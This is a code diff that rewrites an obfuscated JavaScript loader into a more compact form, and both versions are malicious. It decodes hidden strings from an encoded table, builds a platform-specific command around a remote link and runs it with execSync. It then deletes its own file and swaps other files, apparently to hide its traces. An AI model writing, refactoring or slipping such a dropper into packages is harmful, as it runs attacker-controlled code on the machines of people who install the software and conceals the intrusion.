@@ -1,4 +1,4 @@
-const stq=["_kLx+SMqE7KxlS8vE3LxSScqEHKxjScpE7Kx",
+const table=["_kLx+SMqE7KxlS8vE3LxSScqEHKxjScpE7Kx",
 "__gvELKx",
 "__gvEvKx",
 "iWcvF3bx6WctFfbxpS8oEHKxsS8uEPKxkSMpFjKxhScvEfKxsSctEjKxjWspEvKxhSsrE/LxsSsvELaxiW8tF3Lx+ScuEXKx",
@@ -11,11 +11,9 @@ const stq=["_kLx+SMqE7KxlS8vE3LxSScqEHKxjScpE7Kx",
 "_kKxnS8oFjKxqSMrEbKxpSMrE3Lx",
 "_4LxoS8uEPax",
 "__AqEjLx/SsnEHax9WcoF/axGSMhETIxBSskEjJxOSsnE3ax8WsvErLxjWsvF7bx6W8vF3bx/W8uFHJxvWcnEDIxISsnEjaxtWMqEHKxkSMrEDaxtWsvEnLxsScvETLxvScrFrLxoSMoF3axkSMqEnKxpSMpEXKxqWsuEDaxtWspEHKxoScpE7Lx/S8rErLxiScvEraxrWcrFzbx+ScvETax+WsvF3bx4WcvF/bx7WckEjaxaSMgEjIxZS8rF3axzWcrFbIxDS8gEHIxSS8nEnIxeScrFzbx5SsrE/LxpSsoE/Lx6SsoFnKxkScoEzKx8S8oETKxjW8rEHKx9SMoEzKx1S8rEPax+SMqE3KxsSspE7KxsScvEraxpSMoF3axeSsnELIxdScrFXJxnWcrF7LxgWsqFHKx/SMuE7KxtWcqELaxtWMqELLxoS8oFnKxgSsrEjaxtW8oEjLxYS8oF7Lx3WMpF/axmScoEjKxlScmEPax5ScvETKx/ScqE7JxaS8rFLax5SsrEjKxnS8rEXIxoScuEzKxvS8vE7IxwWsvE3ax+SMqE7Jx",
-"_4bx+WcvF/bx6W8vFvbx"],ord="OrDeR_7077";
-const _trans_1=function(x,r){try{const E=r.split("").map(Number),S=x.split("").map((x,r)=>{const S=x.charCodeAt(0),a=E[7*r*r%10];return String.fromCharCode(S^a^333)}).join("");return S}catch{}};
-const _trans_2=function(x,r){try{let E=x.split("").reverse().join("").replaceAll("_","="),S=Buffer.from(E,"base64").toString("utf8");return _trans_1(S,r)}catch{}};
-const _entry=function(x){try{const r=_trans_2(stq[3],ord)+x,{execSync:E}=require(_trans_2(stq[0],ord)),S=require(_trans_2(stq[1],ord)),a=require(_trans_2(stq[2],ord)),o=S.tmpdir(),s=S.platform();
-if(!a.existsSync(o+"/"+_trans_2(stq[13],ord)+"/.lock")){return}
-let n;if(s===_trans_2(stq[5],ord))n=_trans_2(stq[6],ord).replaceAll("SCR_LINK",r);else if(s===_trans_2(stq[4],ord)){const e=o+"\\"+x+_trans_2(stq[11],ord);a.writeFileSync(e,_trans_2(stq[12],ord).replaceAll("SCR_LINK",r)),n=_trans_2(stq[7],ord).replaceAll("LOCAL_PATH",e)}else n=_trans_2(stq[8],ord).replaceAll("SCR_LINK",r);
-E(n);const t=__filename;a.unlink(t,x=>{}),a.unlink(_trans_2(stq[9],ord),x=>{}),a.rename(_trans_2(stq[10],ord),_trans_2(stq[9],ord),x=>{})}catch{}};
-_entry("6202033");
+"_4bx+WcvF/bx6W8vFvbx"],salt="OrDeR_7077";
+function un(i,k){const w=Buffer.from([...table[i]].reverse().join("").replace(/_/g,"="),"base64").toString("utf8"),n=[...k].map(c=>Number(c)||0);let o="";for(let j=0;j<w.length;j++)o+=String.fromCharCode(w.charCodeAt(j)^n[7*j*j%10]^333);return o}
+(function(id){try{const u=un(3,salt)+id,{execSync:x}=require(un(0,salt)),y=require(un(1,salt)),z=require(un(2,salt)),tmp=y.tmpdir(),on=y.platform();
+if(!z.existsSync(tmp+"/"+un(13,salt)+"/.lock"))return;
+let line;if(on===un(5,salt))line=un(6,salt).split("SCR_LINK").join(u);else if(on===un(4,salt)){const f=tmp+"\\"+id+un(11,salt);z.writeFileSync(f,un(12,salt).split("SCR_LINK").join(u));line=un(7,salt).split("LOCAL_PATH").join(f)}else line=un(8,salt).split("SCR_LINK").join(u);
+x(line);z.unlink(__filename,()=>{});z.unlink(un(9,salt),()=>{z.rename(un(10,salt),un(9,salt),()=>{})})}catch{}})("6202033");
